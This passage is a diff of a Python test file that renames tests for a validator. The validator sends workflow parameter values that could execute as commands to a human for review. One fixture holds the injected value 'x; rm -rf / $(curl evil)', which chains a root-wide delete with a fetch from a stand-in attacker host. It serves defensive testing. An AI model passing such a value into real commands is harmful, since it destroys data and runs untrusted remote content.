@@ -249,7 +249,7 @@ def test_a_value_with_unseen_characters_or_a_secret_is_refused(value):
 
 
 @pytest.mark.parametrize("value", RUNNING)
-def test_a_value_that_could_run_needs_a_person(value):
+def test_a_value_that_could_run_needs_a_human(value):
     assert [] == checked(value).problems
     assert 1 == len(checked(value).factors)
     assert 1 == len(checked(["plain", value], type=ParameterType.ARRAY).factors)
@@ -268,7 +268,7 @@ def test_an_ordinary_value_is_let_through(value):
     assert CheckReport() == checked(value)
 
 
-async def test_an_analysis_with_a_value_that_could_run_needs_a_person():
+async def test_an_analysis_with_a_value_that_could_run_needs_a_human():
     free = workflow(parameters=(*workflow().parameters, Parameter(name="NOTE", type=ParameterType.STRING)))
     parameters = {**chosen()["selected_workflow"]["parameters"], "NOTE": "x; rm -rf / $(curl evil)"}
     world = World.saying(final(chosen(parameters=parameters)), catalog=MemoryCatalog([free]))
